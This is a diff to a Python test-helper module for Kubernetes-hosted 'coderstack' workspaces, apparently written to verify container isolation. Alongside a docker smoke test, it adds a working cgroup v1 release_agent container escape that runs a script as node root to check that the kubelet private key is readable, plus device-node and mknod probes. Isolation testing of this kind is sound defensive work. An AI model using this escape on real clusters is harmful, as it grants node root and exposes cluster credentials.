@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+import os
 import time
 import uuid
+
+from helpers.parts import STATE
 
 WORKSPACES = "coder-workspaces"
 
@@ -67,3 +70,68 @@ def connects(kube, pod, host: str, port: int) -> bool:
     out = exec_in(kube, pod, f"timeout 4 bash -c 'exec 3<>/dev/tcp/{host}/{port}' && echo OPEN || echo CLOSED")
     assert "OPEN" in out or "CLOSED" in out, out
     return "OPEN" in out
+
+
+HELLO = "hello from a container in a coderstack workspace"
+
+
+def hello_rootfs(tmp_path) -> bytes:
+    """The root file system of a one-program image (a static program built here), for `docker import`: an image no
+    registry has to serve; `docker run ... /hello` prints HELLO."""
+    import subprocess
+    import tarfile
+
+    src = tmp_path / "hello.c"
+    src.write_text('#include <stdio.h>\nint main(void){puts("' + HELLO + '");}\n')
+    subprocess.run(["gcc", "-static", "-Os", "-o", str(tmp_path / "hello"), str(src)], check=True)
+    rootfs = tmp_path / "rootfs.tar"
+    with tarfile.open(rootfs, "w") as tar:
+        tar.add(tmp_path / "hello", arcname="hello")
+    return rootfs.read_bytes()
+
+
+def docker_runs_a_local_image(run, tmp_path) -> str:
+    """In a workspace whose bootstrap started dockerd: wait until it answers, import the hello image and run it.
+    ``run(script, stdin=None, timeout=120)`` runs a shell script in the workspace container and returns its stdout
+    (failing the test when the script fails). Returns the container's output."""
+    deadline = time.monotonic() + 90
+    while "up" not in run("docker info --format '{{.ServerVersion}}' >/dev/null 2>&1 && echo up || true"):
+        assert time.monotonic() < deadline, "docker info never answered: " + run("docker info 2>&1 | tail -n 5; true")
+        time.sleep(2)
+    run("docker import - coderstack-test/hello:local >/dev/null", stdin=hello_rootfs(tmp_path))
+    return run("docker run --rm coderstack-test/hello:local /hello", timeout=180).strip()
+
+
+# Root on the node from a container, the classic way on cgroup v1 (this host): mount a cgroup hierarchy, point its
+# release_agent at a script in the container's own layer (its path on the node from the overlay's upperdir) and let
+# the kernel run it, as the node's root, when the cgroup empties. The script only checks that the kubelet's private key
+# is readable (it is never printed); the hierarchy's release_agent is put back and the cgroup removed.
+_ESCAPE = """
+d=/tmp/cs-cgroup; mkdir -p $d; mount -t cgroup -o pids cgroup $d 2>/dev/null || exit 0
+up=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/self/mountinfo | head -n1)
+old=$(cat $d/release_agent)
+printf '#!/bin/sh\\ngrep -q "PRIVATE KEY" %s && touch %s/kubelet-key-read\\n' "{key}" "$up" >/cs-agent
+chmod +x /cs-agent; mkdir -p $d/cs-escape; echo 1 >$d/cs-escape/notify_on_release; echo "$up/cs-agent" >$d/release_agent
+sh -c "echo \\$\\$ >$d/cs-escape/cgroup.procs"; sleep 1
+test -e /kubelet-key-read && echo kubelet-key
+echo "$old" >$d/release_agent; rmdir $d/cs-escape; umount $d; rm -f /cs-agent /kubelet-key-read
+"""
+
+
+def root_device() -> tuple[str, int, int]:
+    """The node's root file system's block device (kubelet credentials, PostgreSQL's volume) and its numbers."""
+    st = os.stat(str(STATE))
+    major, minor = os.major(st.st_dev), os.minor(st.st_dev)
+    name = os.path.basename(os.path.realpath(f"/sys/dev/block/{major}:{minor}"))
+    return name, major, minor
+
+
+def node_root_probe() -> str:
+    """A shell script that prints what root in a container can reach of its node: `device` (the node's disk has a
+    device node there), `mknod` (one can be made) and `kubelet-key` (the kubelet's private key read through the cgroup
+    v1 release_agent, i.e. as the node's root). Nothing is printed where none of it holds."""
+    name, major, minor = root_device()
+    return (
+        f"test -b /dev/{name} && echo device; mknod /tmp/disk b {major} {minor} 2>/dev/null && echo mknod;"
+        + _ESCAPE.format(key=STATE / "pki/kubelet.key")
+    )
